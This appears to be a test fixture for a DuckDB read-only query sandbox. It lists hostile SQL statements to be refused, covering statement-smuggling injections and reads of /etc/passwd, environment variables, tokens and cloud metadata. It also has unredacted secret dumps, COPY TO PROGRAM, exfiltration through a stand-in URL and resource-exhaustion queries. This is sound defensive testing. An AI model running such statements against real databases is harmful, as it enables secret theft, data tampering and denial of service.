-- Statements that a reader of the ledger must not get away with: each is refused, or stopped at its limit, and leaves
-- every byte of the ledger as it was. One to a paragraph, below a line that says what it tries. {root} stands for the
-- ledger's folder and {outside} for the folder around it, which holds secret.csv.

-- Two statements in one text.
SELECT 1; DROP VIEW lease

-- Out of the subselect that limits the rows.
SELECT 1) UNION ALL (SELECT 2

-- Out of the subselect, into a file.
SELECT 1) TO '{outside}/out.csv' --

-- A row of its own.
INSERT INTO lease VALUES (1)

-- Rows away.
DELETE FROM lease

-- A value changed.
UPDATE lease SET step = 1

-- A view away.
DROP VIEW lease

-- A table of its own.
CREATE TABLE t AS SELECT 1

-- Another view in the place of the segments.
CREATE OR REPLACE TEMP VIEW stored_event AS SELECT 1

-- A DELETE inside a WITH, which counts as a SELECT.
WITH gone AS (DELETE FROM lease RETURNING *) SELECT * FROM gone

-- An INSERT as a table.
SELECT * FROM (INSERT INTO lease VALUES (1) RETURNING *)

-- A copy outside.
COPY lease TO '{outside}/out.csv'

-- A segment of its own.
COPY (SELECT 1) TO '{root}/live/w/000000/x.parquet' (FORMAT parquet)

-- Everything outside.
EXPORT DATABASE '{outside}/dump'

-- Another database.
ATTACH '{outside}/other.duckdb'

-- An extension that reaches the network.
INSTALL httpfs

-- The lock on the settings.
SET lock_configuration = false

-- Access to files.
SET enable_external_access = true

-- The time limit.
RESET max_execution_time

-- A profile written to a file.
PRAGMA profiling_output = '{outside}/profile'

-- The plan of a query, which runs it.
EXPLAIN ANALYZE SELECT 1

-- A write of the catalog.
CHECKPOINT

-- A write of the catalog, as a table function.
SELECT * FROM checkpoint()

-- A prepared statement.
PREPARE x AS SELECT 1

-- A foreign file by its function.
SELECT * FROM read_csv('{outside}/secret.csv')

-- A foreign file by its name.
SELECT * FROM '{outside}/secret.csv'

-- A foreign file by a name that a WITH elsewhere has.
SELECT * FROM '{outside}/secret.csv', (WITH "{outside}/secret.csv" AS (SELECT 1) SELECT 2)

-- A foreign file by a name that a later WITH has.
WITH a AS (FROM '{outside}/secret.csv'), "{outside}/secret.csv" AS (SELECT 1) FROM a

-- A foreign file as text.
SELECT content FROM read_text('{outside}/secret.csv')

-- A foreign file through the ledger's folder.
SELECT content FROM read_blob('{root}/../secret.csv')

-- A foreign file through a folder that may be read.
SELECT content FROM read_text('{root}/live/../../secret.csv')

-- A foreign file deep inside a query.
SELECT (SELECT max(content) FROM read_text('{outside}/secret.csv')) FROM lease WHERE step IN (SELECT 1)

-- A foreign file by the system's own name of the function.
SELECT * FROM system.main.read_text('{outside}/secret.csv')

-- The form of a foreign file.
SELECT * FROM sniff_csv('{outside}/secret.csv')

-- Names of foreign files.
SELECT * FROM glob('{outside}/*')

-- The ledger's own files, but not by its views: logs and locks lie beside the segments.
SELECT * FROM glob('{root}/**')

-- A segment past the views, with its host's path.
SELECT filename FROM read_parquet('{root}/live/*/*/*.parquet', filename = true)

-- What a segment says of itself.
SELECT * FROM parquet_metadata('{root}/live/*/*/*.parquet')

-- A log, which may hold prompts.
SELECT * FROM read_text('{root}/logs/**')

-- Another host's file.
SELECT * FROM read_csv('https://example.invalid/x.csv')

-- A statement in a string.
SELECT * FROM query('COPY (SELECT 1) TO ''{outside}/out.csv''')

-- A foreign file as the name of a table in a string.
SELECT * FROM query_table('{outside}/secret.csv')

-- A foreign file through a macro that takes the name of a table.
SELECT * FROM histogram('{outside}/secret.csv', password)

-- A statement in JSON.
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))

-- Settings.
SELECT * FROM duckdb_settings()

-- One setting.
SELECT current_setting('temp_directory')

-- Secrets that DuckDB keeps.
SELECT * FROM duckdb_secrets()

-- Where the database lies.
SELECT * FROM pragma_database_list

-- What lies in the catalog beside the views.
SELECT * FROM information_schema.tables

-- The version and platform of the host.
SELECT * FROM pragma_platform()

-- The environment of the process.
SELECT getenv('HOME')

-- Other people's queries.
SELECT * FROM duckdb_logs()

-- A line in the log.
SELECT write_log('x')

-- A worker kept by waiting.
SELECT sleep_ms(3600000)

-- A table of the program that asks.
SELECT * FROM mine

-- A table of the program that asks, by its address.
SELECT * FROM arrow_scan(1, 2, 3)

-- Everything at once, over and over: a join without a condition.
SELECT count(*) FROM range(10000000) a, range(10000000) b WHERE a.range * b.range % 7 = 3

-- The same of the ledger's own view.
SELECT count(*) FROM event a, event b, event c, range(1000000000000) d WHERE a.seq + b.seq + c.seq + d.range % 7 < 0

-- A series without a practical end.
SELECT count(*) FROM generate_series(1, 1000000000000)

-- Recursion without an end.
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t

-- Recursion that doubles.
WITH RECURSIVE t(n) AS (SELECT repeat('x', 100000) UNION ALL SELECT n || n FROM t) SELECT count(*) FROM t

-- One call that compares for minutes, heeding no interrupt.
SELECT levenshtein(repeat('a', 1000000), repeat('b', 1000000))

-- One number with millions of digits.
SELECT repeat('9', 10000000)::BIGNUM

-- One lambda over a long list.
SELECT list_reduce(range(100000000), lambda a, b: (a + b) % 7)

-- One text of gigabytes.
SELECT length(repeat('x', 4000000000))

-- One text of more than a text can hold.
SELECT repeat('x', 10000000000)

-- One text by its padding.
SELECT lpad('x', 2000000000, 'y')

-- One text by its format.
SELECT printf('%1000000000d', 1)

-- One text of every row.
SELECT string_agg(repeat('x', 1000000), '') FROM range(100000)

-- One list of gigabytes.
SELECT len(range(1000000000))

-- One list that is small to ask for and large to make.
SELECT regexp_extract_all(repeat('a', 100000000), 'a')

-- One list of the parts of a text.
SELECT string_split(repeat('a,', 100000000), ',')

-- One list by its length.
SELECT list_resize([1], 500000000)

-- One list of two.
SELECT list_zip(range(50000000), range(50000000))

-- One map.
SELECT map(range(50000000), range(50000000))

-- One matrix, for a distance.
SELECT damerau_levenshtein(repeat('a', 30000), repeat('b', 30000))

-- One date in a hundred million forms.
SELECT strftime(TIMESTAMP '2020-01-01', repeat('%c', 100000000))

-- A sort that does not fit.
SELECT * FROM range(100000000000) t(i) ORDER BY hash(i)

-- A set that does not fit.
SELECT count(DISTINCT i) FROM range(1000000000) t(i)

-- A result that does not fit where it goes.
SELECT repeat('x', 1000000) FROM range(1000)

-- A schema of its own.
CREATE SCHEMA mine

-- A type of its own.
CREATE TYPE colour AS ENUM ('red')

-- A sequence, whose values outlive the query.
CREATE SEQUENCE s

-- A macro in the catalog.
CREATE MACRO twice(x) AS x + x

-- A macro that reads a foreign file.
CREATE MACRO steal() AS TABLE SELECT * FROM read_csv('{outside}/secret.csv')

-- A macro that hides one of DuckDB's own.
CREATE TEMP MACRO count(x) AS 0

-- An index.
CREATE INDEX i ON lease (step)

-- A secret for the network.
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')

-- A secret that stays on disk.
CREATE OR REPLACE PERSISTENT SECRET s (TYPE http)

-- A secret away.
DROP SECRET s

-- Another name for a view.
ALTER VIEW lease RENAME TO leases

-- Another column.
ALTER TABLE stored_event ADD COLUMN x INTEGER

-- All rows away.
TRUNCATE lease

-- A DELETE as a MERGE.
MERGE INTO lease USING lease AS l ON true WHEN MATCHED THEN DELETE

-- A rewrite of the file.
VACUUM

-- Statistics into the catalog.
ANALYZE

-- A write of the catalog by force.
FORCE CHECKPOINT

-- A write of one database.
CHECKPOINT ledger

-- The ledger away.
DETACH ledger

-- Another database as the one that names mean.
USE memory

-- A database in memory.
ATTACH ':memory:' AS m

-- The catalog again, for writing.
ATTACH '{root}/ledger.duckdb' AS w (READ_WRITE)

-- The catalog again, by another path.
ATTACH '{root}/../ledger/ledger.duckdb' AS w

-- A database of another host.
ATTACH 'https://example.invalid/x.duckdb' AS far

-- A server of another kind.
ATTACH 'host=example.invalid' AS p (TYPE postgres)

-- Another database in the place of the ledger.
ATTACH OR REPLACE ':memory:' AS ledger

-- The whole ledger into another database.
COPY FROM DATABASE ledger TO memory

-- A foreign file into a view.
COPY lease FROM '{outside}/secret.csv'

-- A copy to the server's own output.
COPY (SELECT 1) TO '/dev/stdout'

-- A folder of files.
COPY (SELECT 1 AS a, 2 AS b) TO '{outside}/parts' (FORMAT parquet, PARTITION_BY (a))

-- A copy by a program.
COPY (SELECT 1) TO PROGRAM 'touch {outside}/out'

-- A copy in the place of the catalog.
COPY (SELECT 1) TO '{root}/ledger.duckdb' (FORMAT csv)

-- A copy in the place of a head.
COPY (SELECT '{}') TO '{root}/heads/w.json' (FORMAT csv, HEADER false)

-- Everything from outside.
IMPORT DATABASE '{outside}/dump'

-- An extension that is installed.
LOAD httpfs

-- An extension from a file.
LOAD '{outside}/evil.duckdb_extension'

-- An extension by force, from elsewhere.
FORCE INSTALL httpfs FROM core_nightly

-- An extension of a foreign server.
INSTALL httpfs FROM 'http://example.invalid'

-- Extensions anew.
UPDATE EXTENSIONS

-- More threads.
SET threads = 1000

-- More memory.
SET memory_limit = '1TB'

-- More memory, for all.
SET GLOBAL memory_limit = '1TB'

-- More time.
SET max_execution_time = 3600000

-- Every folder.
SET allowed_directories = ['/']

-- One more file.
SET allowed_paths = ['{outside}/secret.csv']

-- Another place for relative paths.
SET file_search_path = '{outside}'

-- A place for spilled rows.
SET temp_directory = '{outside}/spill'

-- Another home.
SET home_directory = '{outside}'

-- Another place for secrets.
SET secret_directory = '{outside}'

-- Another place for extensions.
SET extension_directory = '{outside}'

-- Extensions that nobody signed.
SET allow_unsigned_extensions = true

-- Extensions that install themselves.
SET autoinstall_known_extensions = true

-- Tables of the program that asks.
SET python_enable_replacements = true

-- Deeper nesting.
SET max_expression_depth = 1000000

-- A log in a file.
SET log_query_path = '{outside}/log'

-- A variable for the next query.
SET VARIABLE v = 1

-- A variable from a foreign file.
SET VARIABLE v = (SELECT content FROM read_text('{outside}/secret.csv'))

-- A setting as it was.
RESET memory_limit

-- The search path.
SET search_path = 'memory'

-- The schema.
SET schema = 'information_schema'

-- Databases, as a pragma.
PRAGMA database_list

-- Tables, as a pragma.
PRAGMA show_tables

-- A profile of each query.
PRAGMA enable_profiling

-- A plan as JSON.
PRAGMA enable_profiling = 'json'

-- What the storage holds.
PRAGMA storage_info('lease')

-- Memory, as a pragma.
PRAGMA memory_limit = '1TB'

-- Everything from outside, as a pragma.
PRAGMA import_database('{outside}/dump')

-- A checkpoint, as a pragma.
PRAGMA force_checkpoint

-- Verification that slows everything down.
PRAGMA enable_verification

-- A call.
CALL pragma_version()

-- A call that turns on logs.
CALL enable_logging('QueryLog', storage = 'file')

-- A call that writes.
CALL force_checkpoint()

-- A transaction that stays open.
BEGIN

-- The end of a transaction.
COMMIT

-- The end of a transaction, the other way.
ROLLBACK

-- A prepared statement that writes.
PREPARE x AS INSERT INTO lease VALUES (1)

-- A prepared statement of somebody else.
EXECUTE x

-- A prepared statement away.
DEALLOCATE x

-- A parameter that nobody gives.
SELECT ?

-- A named parameter.
SELECT $path

-- A parameter as a file.
SELECT * FROM read_text($path)

-- A plan.
EXPLAIN SELECT * FROM lease

-- A plan as JSON, which names files.
EXPLAIN (FORMAT json) SELECT * FROM lease

-- The plan of a DELETE, which runs it.
EXPLAIN ANALYZE DELETE FROM lease

-- The plan of a copy, which runs it.
EXPLAIN ANALYZE COPY (SELECT 1) TO '{outside}/out.csv'

-- The plan of a new table, which makes it.
EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1

-- Tables by SHOW.
SHOW TABLES

-- Tables of every database.
SHOW ALL TABLES

-- Databases by SHOW.
SHOW DATABASES

-- A setting by SHOW.
SHOW memory_limit

-- Another comment on a view.
COMMENT ON VIEW lease IS 'x'

-- A table by INTO.
SELECT 1 AS a INTO t

-- A right.
GRANT ALL ON lease TO PUBLIC

-- Two SELECTs.
SELECT 1; SELECT 2

-- A second statement behind a comment.
SELECT 1;/* harmless */DROP VIEW lease

-- A second statement behind a comment and a string.
SELECT '--'; DROP VIEW lease --'

-- A second statement behind a semicolon in a string.
SELECT ';'; DROP VIEW lease

-- A second statement behind a dollar-quoted string.
SELECT $$;$$; DROP VIEW lease

-- A second statement behind a tagged dollar-quoted string.
SELECT $a$ $$ ; $a$; DROP VIEW lease

-- A second statement behind an escaped quote.
SELECT E'\'; DROP VIEW lease; --

-- A second statement behind a doubled quote.
SELECT ''';'; DROP VIEW lease

-- A second statement behind a quoted name.
SELECT 1 AS ";"; DROP VIEW lease

-- A second statement first.
;; DROP VIEW lease

-- A statement inside a comment that is not closed.
SELECT 1 /* ; DROP VIEW lease

-- A comment that closes twice.
SELECT 1 /* */ */; DROP VIEW lease

-- Comments inside one another.
SELECT 1 /* /* */ ; DROP VIEW lease */; DROP VIEW lease

-- Out of the subselect and in again.
SELECT 1); DROP VIEW lease; SELECT * FROM (SELECT 1

-- Out of the subselect, past its limit.
SELECT 1) LIMIT ALL --

-- Out of the subselect, into another table.
SELECT 1) AS a, (FROM read_text('{outside}/secret.csv')

-- Out of the subselect, into a join.
SELECT 1) POSITIONAL JOIN read_text('{outside}/secret.csv') --

-- Out of the subselect, into a file's name.
SELECT 1), '{outside}/secret.csv' --

-- Out of the subselect, behind a comment.
SELECT 1 /*) UNION ALL*/ ) UNION ALL (SELECT 2

-- Out of the subselect, into a set operation of another.
SELECT 1) UNION BY NAME FROM (SELECT content FROM read_text('{outside}/secret.csv')

-- A semicolon of another alphabet.
SELECT 1； DROP VIEW lease

-- Quotes of another alphabet.
SELECT * FROM ‘{outside}/secret.csv’

-- Blanks that are none.
DROP VIEW lease

-- A blank of no width in a word.
DR​OP VIEW lease

-- A mark that turns text around.
SELECT 1 ‮; esael WEIV PORD

-- A mark of byte order.
﻿DROP VIEW lease

-- A second statement on another line.
SELECT 1 --
; DROP VIEW lease

-- Escapes of Unicode in a name.
SELECT * FROM U&"\002Fetc\002Fpasswd"

-- Escapes in a path.
SELECT * FROM read_text(E'\x2fetc\x2fpasswd')

-- A path in parts.
SELECT * FROM read_text('/etc/' || 'passwd')

-- An UPDATE inside a WITH.
WITH u AS (UPDATE lease SET step = 1 RETURNING *) SELECT * FROM u

-- An INSERT inside a WITH.
WITH i AS (INSERT INTO lease VALUES (1) RETURNING *) SELECT * FROM i

-- An INSERT inside a WITH that nobody reads.
WITH i AS MATERIALIZED (INSERT INTO lease VALUES (1) RETURNING *) SELECT 1

-- A MERGE inside a WITH.
WITH m AS (MERGE INTO lease USING lease l ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m

-- A copy inside a WITH.
WITH c AS (COPY lease TO '{outside}/out.csv') SELECT 1

-- A new table inside a WITH.
WITH c AS (CREATE TABLE t AS SELECT 1) SELECT 1

-- A DELETE inside a WITH inside a subselect.
SELECT (WITH d AS (DELETE FROM lease RETURNING 1) SELECT count(*) FROM d)

-- A DELETE inside EXISTS.
SELECT 1 WHERE EXISTS (DELETE FROM lease RETURNING 1)

-- A WITH before a DELETE.
WITH a AS (SELECT 1) DELETE FROM lease

-- A WITH before an INSERT.
WITH a AS (SELECT 1) INSERT INTO lease SELECT * FROM a

-- A WITH before a copy.
WITH a AS (SELECT 1) COPY a TO '{outside}/out.csv'

-- An UPDATE as a table.
SELECT * FROM (UPDATE lease SET step = 1 RETURNING *)

-- A copy as a table.
SELECT * FROM (COPY lease TO '{outside}/out.csv')

-- Another database as a table.
SELECT * FROM (ATTACH '{outside}/other.duckdb')

-- SHOW as a table.
SELECT * FROM (SHOW TABLES)

-- SHOW of all databases as a table.
SELECT * FROM (SHOW ALL TABLES)

-- A pragma as a table.
SELECT * FROM (PRAGMA version)

-- A call as a table.
SELECT * FROM (CALL pragma_version())

-- A plan as a table.
SELECT * FROM (EXPLAIN SELECT 1)

-- A foreign file's columns.
DESCRIBE SELECT * FROM read_csv('{outside}/secret.csv')

-- A foreign file's columns by its name.
DESCRIBE '{outside}/secret.csv'

-- A foreign file's contents in sum.
SUMMARIZE '{outside}/secret.csv'

-- A foreign file's contents in sum, from a SELECT.
SUMMARIZE SELECT content FROM read_text('{outside}/secret.csv')

-- A foreign file's columns as a table.
SELECT * FROM (DESCRIBE SELECT * FROM '{outside}/secret.csv')

-- A foreign CSV by another function.
SELECT * FROM read_csv_auto('{outside}/secret.csv')

-- A foreign file as JSON.
SELECT * FROM read_json('{outside}/secret.csv')

-- A foreign file as JSON, line by line.
SELECT * FROM read_ndjson_objects('{outside}/secret.csv')

-- A foreign file as Parquet.
SELECT * FROM parquet_scan('{outside}/secret.csv')

-- A list of foreign files.
SELECT * FROM read_text(['{outside}/secret.csv', '/etc/passwd'])

-- Foreign files by a pattern.
SELECT * FROM read_text('{outside}/**/*.csv')

-- The schema of a segment's file.
SELECT * FROM parquet_schema('{root}/live/*/*/*.parquet')

-- The bytes of a segment's header.
SELECT * FROM parquet_kv_metadata('{root}/live/*/*/*.parquet')

-- The size of a segment's file.
SELECT * FROM parquet_file_metadata('{root}/live/*/*/*.parquet')

-- What a segment might hold.
SELECT * FROM parquet_bloom_probe('{root}/live/*/*/*.parquet', 'writer', 'w')

-- The catalog as a database.
SELECT * FROM read_duckdb('{root}/ledger.duckdb')

-- A sheet.
SELECT * FROM read_xlsx('{outside}/secret.xlsx')

-- A database of another kind.
SELECT * FROM sqlite_scan('{outside}/other.db', 't')

-- A server of another kind, as a table.
SELECT * FROM postgres_scan('host=example.invalid', 'public', 't')

-- A lake.
SELECT * FROM iceberg_scan('{outside}/lake')

-- The ledger's own marker.
SELECT * FROM '{root}/ledger.json'

-- The names of writers, past the views.
SELECT * FROM read_ndjson('{root}/writers.jsonl')

-- A key that lies beside the user's settings.
SELECT content FROM read_text('~/.config/rose/ledger.key')

-- The tokens of a gateway.
SELECT content FROM read_text('{outside}/tokens.json')

-- The environment, as a file.
SELECT content FROM read_text('/proc/self/environ')

-- The memory, as a file.
SELECT content FROM read_blob('/proc/self/mem')

-- The command line, as a file.
SELECT content FROM read_text('/proc/self/cmdline')

-- The users of the host.
SELECT * FROM '/etc/passwd'

-- The names of the host's files.
SELECT * FROM glob('/etc/*')

-- The input of the server.
SELECT * FROM read_csv('/dev/stdin')

-- A file without an end.
SELECT count(*) FROM read_blob('/dev/zero')

-- A file by its URL.
SELECT * FROM read_text('file:///etc/passwd')

-- A bucket.
SELECT * FROM 's3://bucket/x.parquet'

-- A bucket of another kind.
SELECT * FROM read_parquet('gs://bucket/x.parquet')

-- A data set of another host.
SELECT * FROM 'hf://datasets/x/y.parquet'

-- The keys that a cloud gives its machines.
SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')

-- A name that asks another host.
SELECT * FROM read_csv('https://secret.example.invalid/' || (SELECT max(lease_id) FROM lease))

-- A segment's folder, left upwards.
SELECT * FROM '{root}/live/w/000000/../../../ledger.json'

-- A foreign file by a function in capitals.
SELECT * FROM READ_TEXT('{outside}/secret.csv')

-- A foreign file by a quoted function.
SELECT * FROM "read_text"('{outside}/secret.csv')

-- A foreign file by a function of a schema.
SELECT * FROM main.read_text('{outside}/secret.csv')

-- A foreign file by a function of the ledger.
SELECT * FROM ledger.main.read_text('{outside}/secret.csv')

-- A foreign file by a function that is no table's.
SELECT read_text('{outside}/secret.csv')

-- A foreign file beside each row.
SELECT * FROM lease, LATERAL (SELECT * FROM read_text('{outside}/secret.csv'))

-- A foreign file beside each row, by position.
SELECT * FROM lease POSITIONAL JOIN '{outside}/secret.csv'

-- A foreign file by a join of times.
SELECT * FROM lease ASOF JOIN '{outside}/secret.csv' AS s ON lease.step >= s.password

-- A foreign file under the rows.
SELECT 1 UNION ALL BY NAME SELECT content FROM read_text('{outside}/secret.csv')

-- A foreign file that is turned.
PIVOT '{outside}/secret.csv' ON password IN ('a') USING count(*)

-- A foreign file that is turned back.
UNPIVOT '{outside}/secret.csv' ON COLUMNS(*) INTO NAME n VALUE v

-- A foreign file in an order.
SELECT 1 ORDER BY (SELECT max(content) FROM read_text('{outside}/secret.csv'))

-- A foreign file as a limit.
SELECT * FROM range(9) LIMIT (SELECT length(content) FROM read_text('{outside}/secret.csv'))

-- A foreign file as an offset.
SELECT * FROM range(9) OFFSET (SELECT count(*) FROM read_text('{outside}/secret.csv'))

-- A foreign file in HAVING.
SELECT count(*) FROM lease HAVING (SELECT count(*) FROM read_text('{outside}/secret.csv')) > 0

-- A foreign file in QUALIFY.
SELECT step FROM lease QUALIFY (SELECT count(*) FROM read_text('{outside}/secret.csv')) > 0

-- A foreign file in a window.
SELECT sum(step) OVER (ORDER BY (SELECT max(content) FROM read_text('{outside}/secret.csv'))) FROM lease

-- A foreign file in a CASE.
SELECT CASE WHEN (SELECT content FROM read_text('{outside}/secret.csv')) > 'a' THEN 1 END

-- A foreign file in a list.
SELECT ARRAY(SELECT content FROM read_text('{outside}/secret.csv'))

-- A foreign file in a filter of an aggregate.
SELECT count(*) FILTER (WHERE EXISTS (FROM read_text('{outside}/secret.csv'))) FROM lease

-- A foreign file in VALUES.
VALUES ((SELECT content FROM read_text('{outside}/secret.csv')))

-- A foreign file in a sample.
SELECT * FROM '{outside}/secret.csv' TABLESAMPLE 10 ROWS

-- A foreign file by TABLE.
TABLE '{outside}/secret.csv'

-- A foreign file as a quoted name.
FROM "{outside}/secret.csv"

-- A foreign file as a name of a schema.
FROM main."{outside}/secret.csv"

-- A foreign file as a name of the ledger.
FROM ledger."{outside}/secret.csv"

-- A foreign file in a recursion.
WITH RECURSIVE r AS (SELECT content FROM read_text('{outside}/secret.csv') UNION ALL SELECT content FROM r WHERE false) FROM r

-- A foreign file under a name that a later subselect has.
SELECT * FROM '{outside}/secret.csv', (WITH RECURSIVE "{outside}/secret.csv" AS (SELECT 1) FROM "{outside}/secret.csv")

-- A view by its text.
SELECT * FROM query('FROM lease')

-- Views by their names in a list.
SELECT * FROM query_table(['lease', 'turn'])

-- A scan by its name.
SELECT * FROM seq_scan('lease')

-- A function of the program that asks.
SELECT * FROM python_map_function(1, 2)

-- A frame of the program that asks.
SELECT * FROM pandas_scan(1)

-- Made-up rows that are not the views'.
SELECT * FROM test_all_types()

-- Rows of one value, without a limit.
SELECT * FROM repeat_row(1, num_rows = 1000000000000)

-- What a typist might mean.
SELECT * FROM sql_auto_complete('SELECT * FROM ')

-- Data of a benchmark.
SELECT * FROM tpch_queries()

-- A plan in JSON.
SELECT json_serialize_plan('SELECT * FROM read_csv(''{outside}/secret.csv'')')

-- A setting in a plan in JSON.
SELECT json_serialize_plan('SELECT current_setting(''allowed_directories'')', optimize := true)

-- A plan of a view in JSON, which names files.
SELECT json_serialize_plan('SELECT * FROM lease')

-- Statements from JSON.
SELECT * FROM json_execute_serialized_sql('{"statements":[]}')

-- The environment, in capitals.
SELECT GETENV('ROSE_LEDGER_TOKEN')

-- The environment, in quotes.
SELECT "getenv"('HOME')

-- The environment, by its system's name.
SELECT system.main.getenv('HOME')

-- The environment, behind its argument.
SELECT 'HOME'.getenv()

-- The environment, in a lambda.
SELECT list_transform(['HOME'], lambda x: getenv(x))

-- The environment, in a lambda of the old form.
SELECT list_filter(['HOME'], x -> getenv(x) <> '')

-- The environment, in a try.
SELECT try(getenv('HOME'))

-- The environment, in a join.
SELECT * FROM lease JOIN range(1) r ON getenv('HOME') <> ''

-- The environment, as an argument of a table.
SELECT * FROM unnest([getenv('HOME')])

-- The environment, as a length of a table.
SELECT count(*) FROM range(length(getenv('HOME')))

-- The environment, in the columns.
SELECT COLUMNS(c -> getenv(c) IS NULL) FROM lease

-- The environment, in an order.
SELECT step FROM lease ORDER BY getenv('HOME')

-- The environment, in a default.
SELECT coalesce(NULL, getenv('HOME'))

-- The environment, in a WITH.
WITH e AS (SELECT getenv('HOME') AS h) SELECT h FROM e

-- The folders that may be read.
SELECT current_setting('allowed_directories')

-- A setting behind its name.
SELECT 'memory_limit'.current_setting()

-- Secrets as they are.
SELECT * FROM duckdb_secrets(redact = false)

-- Which secret is used where.
SELECT * FROM which_secret('s3://bucket', 's3')

-- Databases and their paths.
SELECT * FROM duckdb_databases()

-- Views and their text.
SELECT sql FROM duckdb_views()

-- Views and their text, as a view.
SELECT * FROM duckdb_views

-- Tables.
SELECT * FROM duckdb_tables()

-- Extensions and where they lie.
SELECT * FROM duckdb_extensions()

-- Variables of others.
SELECT * FROM duckdb_variables()

-- Files of spilled rows.
SELECT * FROM duckdb_temporary_files()

-- The memory of the process.
SELECT * FROM duckdb_memory()

-- Logs, read.
SELECT * FROM duckdb_logs_parsed('QueryLog')

-- Files that DuckDB remembers.
SELECT * FROM duckdb_external_file_cache()

-- Settings by their system's name.
SELECT * FROM system.main.duckdb_settings()

-- Settings as a quoted name.
SELECT * FROM "duckdb_settings"()

-- How large the database is.
SELECT * FROM pragma_database_size()

-- What the client calls itself.
SELECT * FROM pragma_user_agent()

-- What the storage holds, as a table.
SELECT * FROM pragma_storage_info('lease')

-- Columns of every view.
SELECT * FROM information_schema.columns

-- Tables, as another server has them.
SELECT * FROM pg_catalog.pg_tables

-- Tables, as another library has them.
SELECT * FROM sqlite_master

-- Rights, as another server has them.
SELECT has_table_privilege('lease', 'select')

-- The address of the client.
SELECT inet_client_addr()

-- The query of the moment.
SELECT current_query()

-- The number of a transaction.
SELECT txid_current()

-- The next of a sequence.
SELECT nextval('s')

-- The seed of what is random.
SELECT setseed(0.5)

-- The version of the host.
SELECT version()

-- How a vector is held.
SELECT vector_type(step) FROM lease

-- Statistics of a column.
SELECT stats(step) FROM lease

-- A checkpoint, as a table.
SELECT * FROM force_checkpoint()

-- Logs away.
SELECT * FROM truncate_duckdb_logs()

-- Logs on.
SELECT * FROM enable_logging()

-- A worker kept by waiting, once for each row.
SELECT sleep_ms(1000) FROM range(1000)

-- A sum without a practical end.
SELECT sum(range) FROM range(100000000000000)

-- Seconds of a million years.
SELECT count(*) FROM generate_series(TIMESTAMP '0001-01-01', TIMESTAMP '200000-01-01', INTERVAL 1 SECOND)

-- A join of unequals.
SELECT count(*) FROM range(10000000) a JOIN range(10000000) b ON a.range < b.range AND a.range * b.range % 7 = 3

-- A subselect for each row.
SELECT sum((SELECT count(*) FROM range(a.range) b WHERE b.range % 7 = a.range % 5)) FROM range(10000000) a

-- Recursion in numbers, without repeats.
WITH RECURSIVE t(n) AS (SELECT 1::HUGEINT UNION SELECT n + 1 FROM t) SELECT max(n) FROM t

-- Recursion by its keys.
WITH RECURSIVE t(k, n) USING KEY (k) AS (SELECT 1, 1::HUGEINT UNION SELECT k, n + 1 FROM t) SELECT * FROM t

-- Recursion over a join.
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT a.n + r.range FROM t a, range(10) r) SELECT count(*) FROM t

-- Recursion that keeps a list.
WITH RECURSIVE t(l) AS (SELECT [1] UNION ALL SELECT l || l FROM t) SELECT max(len(l)) FROM t

-- Recursion inside recursion.
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + (WITH RECURSIVE u(m) AS (SELECT 1 UNION ALL SELECT m + 1 FROM u WHERE m < 100000) SELECT max(m) FROM u) FROM t) SELECT count(*) FROM t

-- A lambda inside a lambda.
SELECT list_transform(range(100000), lambda x: list_sum(list_transform(range(100000), lambda y: x * y % 7)))

-- A lambda that filters.
SELECT len(list_filter(range(100000000), lambda x: x % 7 = 3))

-- A list that is sorted.
SELECT list_sort(list_transform(range(100000000), lambda x: hash(x)))

-- A list without its repeats.
SELECT len(list_distinct(range(100000000)))

-- A list of lists made flat.
SELECT len(flatten(list_transform(range(100000), lambda x: range(10000))))

-- A list of pairs.
SELECT len(list_zip(range(50000000), range(50000000), range(50000000)))

-- A product of two lists.
SELECT list_dot_product(range(200000000)::DOUBLE[], range(200000000)::DOUBLE[])

-- A list turned to text.
SELECT length(array_to_string(range(500000000), ','))

-- A list turned to JSON.
SELECT length(to_json(range(500000000))::VARCHAR)

-- A list with an index of each.
SELECT generate_subscripts(range(1000000000), 1)

-- A list cut out of itself.
SELECT list_slice(range(1000000000), 1, -1)

-- A list filled up.
SELECT len(list_resize(range(10), 2000000000, 7))

-- A list of one, over and over.
SELECT len(repeat([range(1000)], 10000000))

-- All of it in one list.
SELECT list(i ORDER BY hash(i)) FROM range(10000000000) t(i)

-- All of it in one map.
SELECT histogram(i) FROM range(10000000000) t(i)

-- All of it in one JSON.
SELECT json_group_array(i) FROM range(10000000000) t(i)

-- All of it in the middle.
SELECT median(hash(i)) FROM range(10000000000) t(i)

-- The most frequent of all.
SELECT mode(i) FROM range(10000000000) t(i)

-- The share of each.
SELECT quantile_cont(i, [0.1, 0.5, 0.9]) FROM range(10000000000) t(i)

-- The largest of all, many of them.
SELECT max(i, 900000) FROM range(10000000000) t(i)

-- A text turned around.
SELECT reverse(repeat('x', 3000000000))

-- A text in capitals.
SELECT upper(repeat('x', 3000000000))

-- A text of texts.
SELECT length(repeat(repeat('x', 100000), 100000))

-- A text replaced by a longer one.
SELECT length(replace(repeat('a', 10000000), 'a', repeat('b', 1000)))

-- A text replaced by a pattern.
SELECT length(regexp_replace(repeat('a', 100000000), 'a', 'bbbbbbbbbb', 'g'))

-- A text split by a pattern.
SELECT len(regexp_split_to_array(repeat('a,', 100000000), ','))

-- A text padded on the right.
SELECT length(rpad('x', 3000000000, 'yz'))

-- A text by another format.
SELECT length(format('{:>2000000000}', 'x'))

-- A text in letters of bytes.
SELECT length(hex(repeat('x', 1000000000)))

-- A text in letters of 64.
SELECT length(to_base64(repeat('x', 1000000000)::BLOB))

-- A text in bits.
SELECT length(bin(repeat('x', 500000000)))

-- A string of bits.
SELECT bit_count(bitstring('1', 2000000000)) + bit_count(bitstring('1', 2000000001))

-- A text translated.
SELECT length(translate(repeat('a', 1000000000), 'a', 'é'))

-- A text joined from many.
SELECT length(concat_ws(',', repeat('x', 1000000000), repeat('y', 1000000000), repeat('z', 1000000000)))

-- A text compared by another measure.
SELECT jaro_winkler_similarity(repeat('ab', 50000000), repeat('ba', 50000000))

-- A text compared by a third measure.
